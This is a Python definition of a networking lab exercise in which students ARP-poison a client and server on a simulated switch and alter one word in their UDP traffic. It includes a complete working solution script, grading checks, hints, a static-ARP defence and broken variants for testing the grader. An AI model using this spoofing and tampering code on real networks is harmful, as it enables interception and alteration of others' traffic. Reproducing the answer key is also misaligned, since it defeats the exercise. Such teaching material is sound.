"""Exercise 7: man in the middle: alter one word in passing (RFC 826; RFC 768)."""

from __future__ import annotations

from collections.abc import Generator
from typing import Any

from rawkit.lab import (
    Check,
    Defence,
    Evidence,
    Exercise,
    Finding,
    Link,
    Prediction,
    Seed,
    Stage,
    Topology,
    Values,
    Wrong,
    python,
    services,
)

__all__ = ["EXERCISE"]

TASK = """
On your switch, `{client}` sends a line to UDP port `{port}` of `{server}` again and again, and gets it back.
Get in between: poison the tables of both, pass on what is for the other, and replace the word `{word}` by `{lie}`
wherever the client says it. The server must get the altered line with right checksums, the client its echo,
and lines without that word must arrive as they were sent. Your kernel does not forward.

The MAC addresses are `{client_mac}` and `{server_mac}`, yours is `{your_mac}`. End after three seconds.
"""

SOLUTION = """
import os, time
from rawkit import ARP, Ethernet, IPv4, UDP
from rawkit.errors import TimedOut
from rawkit.link import PacketSocket

def value(name):
    return os.environ[f"LAB_{name}"]

me, word, lie = value("YOUR_MAC"), value("WORD").encode(), value("LIE").encode()
stations = {value("CLIENT"): value("CLIENT_MAC"), value("SERVER"): value("SERVER_MAC")}

def poison(victim, other):
    told = ARP.is_at(other, me, to=victim, to_mac=stations[victim])
    link.send(Ethernet(dst=stations[victim], src=me) / told)

with PacketSocket("eth0", filter="udp and not ether src " + me) as link:
    end = time.monotonic() + 3
    again = 0.0
    while (now := time.monotonic()) < end:
        if now >= again:  # they ask each other now and then, and believe the answer
            poison(value("CLIENT"), value("SERVER"))
            poison(value("SERVER"), value("CLIENT"))
            again = now + 1
        try:
            packet = link.receive(0.2).packet()
        except TimedOut:
            continue
        if IPv4 not in packet or str(packet[IPv4].dst) not in stations:
            continue
        data = packet.payload.replace(word, lie)
        ip, udp = packet[IPv4], packet[UDP]
        header = IPv4(src=ip.src, dst=ip.dst, ttl=ip.ttl, identification=ip.identification)
        ports = UDP(src_port=udp.src_port, dst_port=udp.dst_port)
        link.send(Ethernet(dst=stations[str(ip.dst)], src=me) / header / ports / data)
"""

COUNT, EVERY = 60, 0.15


def values(seed: Seed) -> dict[str, Any]:
    """Three stations, a port, and the words; both have five letters."""
    network = seed.network()
    addresses = {name: seed.address(network) for name in ("you", "client", "server")}
    macs = {f"{name}_mac": seed.mac() for name in ("your", "client", "server")}
    words = {"word": f"w{seed.number(1000, 9999)}", "lie": f"x{seed.number(1000, 9999)}"}
    return {**addresses, **macs, "port": seed.port(), **words, "_nonce": seed.nonce()}


def topology(v: Values) -> Topology:
    """Three hosts on a switch."""
    macs = {"you": v.your_mac, "client": v.client_mac, "server": v.server_mac}
    links = [Link(name, "switch", (f"{v[name]}/24", ()), (mac, None)) for name, mac in macs.items()]
    return Topology(links, switches=["switch"])


def said(v: Values, word: str) -> str:
    """A line of the client."""
    return f"{v._nonce} {word}"


def scene(stage: Stage) -> Generator[None, None, None]:
    """Client and server talk, every other line with the word; they know each other beforehand."""
    v = stage.values
    for name in ("client", "server"):
        stage.host(name).set_sysctls({"ipv4/neigh/eth0/locktime": 0})  # else nothing new is believed for a second
    stage.act("server", services.udp_echo(v.port), ready=True)
    stage.run("client", ["ping", "-c", "1", "-W", "2", v.server])
    if stage.defended:
        stage.host("client").set_neighbor(v.server, v.server_mac)
        stage.host("server").set_neighbor(v.client, v.client_mac)
    lines = [said(v, v.word).encode(), said(v, "other").encode()] * (COUNT // 2)
    stage.act("client", services.udp_source(v.server, v.port, lines, every=EVERY), ready=True)
    yield


def poisoned(e: Evidence) -> Finding:
    """Whether both believe the student."""
    server = e.neighbour("server", e.values.client).is_(e.values.your_mac)
    if not server:
        return server
    return e.neighbour("client", e.values.server).is_(e.values.your_mac)


EXERCISE = Exercise(
    name="man-in-the-middle",
    number=7,
    level=4,
    title="Man in the middle: alter one word in passing",
    learnt="What has to be right for nobody to notice, and why checksums do not protect against people.",
    values=values,
    topology=topology,
    scene=scene,
    task=TASK,
    prediction=Prediction(
        "You change one word of a UDP datagram. Which header's checksum "
        "has to be computed anew? (Ethernet, IPv4 or UDP)",
        lambda _: "UDP",
        "IPv4's covers its own header only (RFC 791, section 3.1); UDP's covers the data (RFC 768).",
    ),
    hints=(
        "Each of the two has to believe that the other is at your MAC "
        "address; and what comes, you have to pass on.",
        "What you pass on keeps its IP addresses; the MAC addresses "
        "are new, and UDP's checksum if the data changed.",
        "The destination's MAC is in bytes 0 to 5 of the frame, UDP's checksum in 40 and 41, the data from 42 on.",
    ),
    checks=[
        Check(
            "poisoned",
            "client and server both believe that the other is at {your_mac}",
            poisoned,
            "RFC 826, packet reception",
        ),
        Check(
            "altered",
            "the server gets the client's line with {lie} in place of {word}, sound",
            lambda e: (
                e.wire.received_by("server")
                .ip(src=e.values.client)
                .udp(dst_port=e.values.port)
                .payload(said(e.values, e.values.lie))
                .sound()
                .at_least(3)
            ),
            "RFC 768, Fields",
        ),
        Check(
            "passed-on",
            "the server gets lines without the word from you, as they were sent",
            lambda e: (
                e.wire.received_by("server")
                .ether(src=e.values.your_mac)
                .ip(src=e.values.client)
                .payload(said(e.values, "other"))
                .sound()
                .at_least(3)
            ),
        ),
        Check(
            "echoed",
            "the client gets the echo of an altered line, from you",
            lambda e: (
                e.wire.received_by("client")
                .ether(src=e.values.your_mac)
                .ip(src=e.values.server)
                .payload(said(e.values, e.values.lie))
                .sound()
                .saw()
            ),
            "RFC 862",
        ),
    ],
    defence=Defence("permanent entries in both tables", "poisoned"),
    solution=python(SOLUTION),
    wrong=[
        Wrong(
            python(SOLUTION.replace('            poison(value("SERVER"), value("CLIENT"))\n', "")),
            "poisoned",
            "server believes that",
        ),
        Wrong(
            python(SOLUTION.replace("dst_port=udp.dst_port)", "dst_port=udp.dst_port, checksum=udp.checksum)")),
            "altered",
            "UDP.checksum",
        ),
        Wrong(
            python(
                SOLUTION.replace(
                    "        data = packet",
                    "        if word not in packet.payload and lie not in "
                    "packet.payload:\n            continue\n        data = packet",
                )
            ),
            "passed-on",
            "it carries",
        ),
    ],
)
